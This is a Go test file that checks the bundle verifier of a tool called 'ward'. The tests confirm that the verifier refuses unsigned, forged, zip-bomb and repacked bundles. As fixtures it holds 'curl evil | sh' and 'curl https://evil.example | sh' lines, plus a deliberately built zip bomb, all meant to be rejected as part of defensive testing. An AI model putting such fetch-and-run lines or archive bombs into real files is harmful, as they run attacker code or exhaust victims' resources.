package bundle

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"encoding/json"
	"errors"
	"hash/crc32"
	"io"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/ward-mcp/ward/internal/sign"
)

// TestVerifyRefusesStrippedSignature: whoever asks for a signature check
// (a key or an identity) must not be told "valid" for a bundle from which
// the signature was removed and the lockfile replaced.
func TestVerifyRefusesStrippedSignature(t *testing.T) {
	f := setup(t)
	unsigned, err := Export(&Options{LockfilePath: f.lock, PolicyPath: f.pol})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := Verify(unsigned, &Options{PublicKey: f.pub}); !errors.Is(err, ErrInvalid) || !strings.Contains(err.Error(), "not signed") {
		t.Errorf("unsigned bundle verified with a key: %v, want ErrInvalid saying it is not signed", err)
	}
	if res, err := Verify(unsigned, nil); err != nil || res.SignatureVerified {
		t.Errorf("unsigned bundle without a key: %+v %v", res, err)
	}
}

// forge rebuilds a bundle with edit applied to its files and a manifest and
// README made to match, as an attacker without the key can.
func forge(t *testing.T, good []byte, edit func(files map[string][]byte, m *Manifest), rawManifest func([]byte) []byte) []byte {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(good), int64(len(good)))
	if err != nil {
		t.Fatal(err)
	}
	files := map[string][]byte{}
	for _, e := range zr.File {
		rc, _ := e.Open()
		var buf bytes.Buffer
		buf.ReadFrom(rc)
		rc.Close()
		files[e.Name] = buf.Bytes()
	}
	var m Manifest
	if err := json.Unmarshal(files[ManifestName], &m); err != nil {
		t.Fatal(err)
	}
	edit(files, &m)
	for n, d := range files {
		if n != LockfileName && n != ManifestName && n != ReadmeName {
			m.Files[n] = sum(d)
		}
	}
	mb, _ := json.MarshalIndent(&m, "", "  ")
	mb = append(mb, '\n')
	if rawManifest != nil {
		mb = rawManifest(mb)
	}
	files[ManifestName] = mb
	files[ReadmeName] = readme(&m)
	var es []entry
	for n, d := range files {
		es = append(es, entry{n, d})
	}
	slices.SortFunc(es, func(a, b entry) int { return strings.Compare(a.name, b.name) })
	out, err := writeZip(es)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func sum(b []byte) string { return sign.Digest(b) }

// TestVerifyRefusesForgedManifest: the manifest is not signed, so anything
// it lists beyond what ward exports, and any manifest that is not exactly
// what ward writes, must be refused.
func TestVerifyRefusesForgedManifest(t *testing.T) {
	f := setup(t)
	good, err := Export(f.opts())
	if err != nil {
		t.Fatal(err)
	}
	if _, err := Verify(forge(t, good, func(map[string][]byte, *Manifest) {}, nil), &Options{PublicKey: f.pub}); err != nil {
		t.Fatalf("an untouched re-forge is refused: %v", err)
	}
	cases := map[string]struct {
		edit func(map[string][]byte, *Manifest)
		raw  func([]byte) []byte
	}{
		"extra entry listed in the manifest": {edit: func(fs map[string][]byte, _ *Manifest) {
			fs["install.sh"] = []byte("curl evil | sh\n")
		}},
		"second policy": {edit: func(fs map[string][]byte, _ *Manifest) {
			fs["policy.json"] = []byte(`{"rules":[]}`)
		}},
		"unused sigstore bundle beside the signature": {edit: func(fs map[string][]byte, _ *Manifest) {
			fs[SigstoreName] = []byte(`{"mediaType":"x"}`)
		}},
		"manifest with trailing data": {raw: func(b []byte) []byte { return append(b, "garbage"...) }},
		"manifest with a duplicate key": {raw: func(b []byte) []byte {
			return bytes.Replace(b, []byte(`"schema": 1,`), []byte(`"schema": 1, "signature": "none",`), 1)
		}},
		"manifest with a key in other case": {raw: func(b []byte) []byte {
			return bytes.Replace(b, []byte(`"schema"`), []byte(`"Schema"`), 1)
		}},
	}
	for name, c := range cases {
		edit := c.edit
		if edit == nil {
			edit = func(map[string][]byte, *Manifest) {}
		}
		if _, err := Verify(forge(t, good, edit, c.raw), &Options{PublicKey: f.pub}); !errors.Is(err, ErrInvalid) {
			t.Errorf("%s: %v, want ErrInvalid", name, err)
		}
	}
}

// TestVerifyBoundsMemory: a small zip of highly compressible entries (a zip
// bomb) must be refused before it is inflated into memory.
func TestVerifyBoundsMemory(t *testing.T) {
	f := setup(t)
	good, err := Export(f.opts())
	if err != nil {
		t.Fatal(err)
	}
	zr, _ := zip.NewReader(bytes.NewReader(good), int64(len(good)))
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, e := range zr.File {
		if err := zw.Copy(e); err != nil {
			t.Fatal(err)
		}
	}
	// One deflated run of 16 MiB of zeros, stored raw under eight names.
	const size = 16 << 20
	var z bytes.Buffer
	fw, _ := flate.NewWriter(&z, flate.BestCompression)
	fw.Write(make([]byte, size))
	fw.Close()
	for i := range 8 {
		w, err := zw.CreateRaw(&zip.FileHeader{Name: "bomb" + string(rune('a'+i)), Method: zip.Deflate,
			CRC32: crc32.ChecksumIEEE(make([]byte, size)), CompressedSize64: uint64(z.Len()), UncompressedSize64: size})
		if err != nil {
			t.Fatal(err)
		}
		w.Write(z.Bytes())
	}
	zw.Close()
	if buf.Len() > 8<<20 {
		t.Fatalf("bomb is %d bytes", buf.Len())
	}
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	_, err = Verify(buf.Bytes(), &Options{PublicKey: f.pub})
	runtime.ReadMemStats(&after)
	if !errors.Is(err, ErrInvalid) {
		t.Errorf("zip bomb: %v, want ErrInvalid", err)
	}
	if alloc := after.TotalAlloc - before.TotalAlloc; alloc > 32<<20 {
		t.Errorf("verifying a %d-byte zip allocated %d MiB", buf.Len(), alloc>>20)
	}
}

// TestVerifyRefusesRepackedZip: archive readers disagree about zips that
// carry more than their central directory says (data before the first
// entry, a comment, a script to run): an auditor's unzip could extract
// other bytes than those ward verified. A bundle must be exactly the bytes
// ward bundle export writes for its files.
func TestVerifyRefusesRepackedZip(t *testing.T) {
	f := setup(t)
	good, err := Export(f.opts())
	if err != nil {
		t.Fatal(err)
	}
	zr, _ := zip.NewReader(bytes.NewReader(good), int64(len(good)))
	var commented bytes.Buffer
	zw := zip.NewWriter(&commented)
	for _, e := range zr.File {
		zw.Copy(e)
	}
	zw.SetComment("see install.sh")
	zw.Close()
	var deflated bytes.Buffer
	zw = zip.NewWriter(&deflated)
	for _, e := range zr.File {
		rc, _ := e.Open()
		w, _ := zw.CreateHeader(&zip.FileHeader{Name: e.Name, Method: zip.Deflate, Modified: time.Now()})
		io.Copy(w, rc)
		rc.Close()
	}
	zw.Close()
	for name, b := range map[string][]byte{
		"shell script before the zip": append([]byte("#!/bin/sh\ncurl https://evil.example | sh\nexit 0\n"), good...),
		"zip comment":                 commented.Bytes(),
		"entries deflated and dated":  deflated.Bytes(),
	} {
		if _, err := Verify(b, &Options{PublicKey: f.pub}); !errors.Is(err, ErrInvalid) {
			t.Errorf("%s: %v, want ErrInvalid", name, err)
		}
	}
}

// TestReadmeSaysPolicyIsUnsigned: the README called the policy "the policy
// ward enforces with this lockfile" under "The lockfile is signed with the
// key ...", and an auditor could take the policy for approved too. Nothing
// signs it: anyone can replace it and fix the manifest.
func TestReadmeSaysPolicyIsUnsigned(t *testing.T) {
	f := setup(t)
	b, err := Export(f.opts())
	if err != nil {
		t.Fatal(err)
	}
	zr, _ := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	for _, e := range zr.File {
		if e.Name != ReadmeName {
			continue
		}
		rc, _ := e.Open()
		text, _ := io.ReadAll(rc)
		rc.Close()
		if !strings.Contains(string(text), "not signed") {
			t.Errorf("README does not say the policy is not signed:\n%s", text)
		}
	}
}
